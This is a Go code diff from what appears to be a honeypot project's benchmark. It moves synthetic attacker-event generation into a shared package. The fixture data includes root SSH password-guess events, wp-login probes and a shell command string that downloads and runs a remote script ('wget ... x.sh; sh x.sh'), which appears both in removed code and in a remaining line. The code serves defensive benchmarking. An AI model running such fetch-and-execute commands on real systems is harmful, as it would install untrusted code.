@@ -47,10 +47,10 @@ import (
 	"syscall"
 	"time"
 
+	"decnet/bench/internal/synth"
 	"decnet/internal/api"
 	"decnet/internal/bounty"
 	"decnet/internal/bus"
-	"decnet/internal/event"
 	"decnet/internal/query"
 	"decnet/internal/store"
 )
@@ -174,7 +174,7 @@ func run(n int, concList string, dur time.Duration, sseClients, sseEvents, sseRa
 	// Shapes whose every request differs (no two clients share a query, so the
 	// server's coalescing of identical concurrent requests cannot help).
 	shapes = append(shapes, shape{name: "attacker:<random of 2000> (varied)", vary: func() (string, func(context.Context) error) {
-		ip := attackerIP(rand.IntN(2000))
+		ip := synth.AttackerIP(rand.IntN(2000))
 		return "/api/logs?limit=100&q=" + url.QueryEscape("attacker:"+ip), func(ctx context.Context) error {
 			_, err := st.Logs(ctx, store.LogQuery{AttackerIP: ip, Limit: 100})
 			return err
@@ -518,32 +518,8 @@ func login(baseURL, pw string) (string, error) {
 	return "", fmt.Errorf("no session cookie after login")
 }
 
-// synth makes event i: 2,000 attackers sending runs of 50 events each —
-// connects, ssh password guesses, http requests, shell commands — over 10 deckies,
-// 100 ms apart (the same shape as bench/ingest).
-func synth(i int, base time.Time) store.Record {
-	e := event.Event{ID: fmt.Sprintf("0190f%011x-7000-8000-%012x", i, i), Time: base.Add(time.Duration(i) * 100 * time.Millisecond),
-		Decky: fmt.Sprintf("decky-%02d", i%10), AttackerIP: attackerIP(i / 50 % 2000), AttackerPort: 1024 + i%60000}
-	switch i % 4 {
-	case 0:
-		e.Service, e.Type = "ssh", "connect"
-		e.Fields = map[string]string{"proto": "tcp"}
-	case 1:
-		e.Service, e.Type = "ssh", "auth"
-		e.Fields = map[string]string{"username": "root", "password": fmt.Sprintf("pass%d", i), "secret_kind": "plaintext",
-			"method": "password", "outcome": "failure", "client_version": "SSH-2.0-libssh2_1.10.0"}
-	case 2:
-		e.Service, e.Type = "http", "request"
-		e.Fields = map[string]string{"method": "GET", "path": fmt.Sprintf("/wp-login.php?id=%d", i), "user_agent": "Mozilla/5.0 (compatible; zgrab/0.x)", "status": "404"}
-	case 3:
-		e.Service, e.Type = "ssh", "command"
-		e.Fields = map[string]string{"command": "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh", "username": "root"}
-	}
-	return store.Record{Event: e}
-}
-
-func attackerIP(a int) string { return fmt.Sprintf("10.9.%d.%d", a/250, a%250+1) }
-
+// fill stores n synthetic events 100 ms apart (package synth: the same shape as
+// bench/ingest's) with their bounty, and 2,000 attackers with profiles.
 func fill(ctx context.Context, st store.Store, n int, base time.Time) error {
 	fmt.Printf("filling SQLite with %d events (+ bounty) and 2000 attackers…\n", n)
 	start := time.Now()
@@ -551,7 +527,7 @@ func fill(ctx context.Context, st store.Store, n int, base time.Time) error {
 	for lo := 0; lo < n; lo += batch {
 		recs := make([]store.Record, 0, batch)
 		for i := lo; i < min(n, lo+batch); i++ {
-			recs = append(recs, synth(i, base))
+			recs = append(recs, store.Record{Event: synth.Event(i, base, 100*time.Millisecond)})
 		}
 		if _, err := st.Ingest(ctx, store.Batch{Records: recs, Bounty: bounty.ExtractAll(recs)}); err != nil {
 			return err
@@ -565,7 +541,7 @@ func fill(ctx context.Context, st store.Store, n int, base time.Time) error {
 		deckies := []string{fmt.Sprintf("decky-%02d", a%10), fmt.Sprintf("decky-%02d", (a+3)%10)}
 		first := base.Add(time.Duration(a*50) * 100 * time.Millisecond)
 		cnt := int64(n / 2000)
-		as = append(as, store.Attacker{UUID: uuid, IP: attackerIP(a), FirstSeen: first, LastSeen: first.Add(time.Duration(cnt) * time.Second),
+		as = append(as, store.Attacker{UUID: uuid, IP: synth.AttackerIP(a), FirstSeen: first, LastSeen: first.Add(time.Duration(cnt) * time.Second),
 			EventCount: cnt, Deckies: deckies, Services: []string{"ssh", "http"}, IsTraversal: true, TraversalPath: strings.Join(deckies, " -> "),
 			CommandCount: cnt / 4, CredentialCount: cnt / 4,
 			Commands: []store.AttackerCommand{{Time: first, Decky: deckies[0], Service: "ssh", Command: "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"}}})
@@ -663,7 +639,7 @@ func fanout(baseURL, cookie string, st store.Store, live *bus.Bus, clients, even
 		<-tick.C
 		recs := make([]store.Record, 0, perBatch)
 		for i := k; i < min(events, k+perBatch); i++ {
-			r := synth(n+i, time.Now().Add(-time.Duration(n+i)*100*time.Millisecond))
+			r := store.Record{Event: synth.Event(n+i, time.Now().Add(-time.Duration(n+i)*100*time.Millisecond), 100*time.Millisecond)}
 			r.Event.ID = fmt.Sprintf("bench-sse-%d-%d", start.UnixNano(), i)
 			r.Service = "bench"
 			recs = append(recs, r)
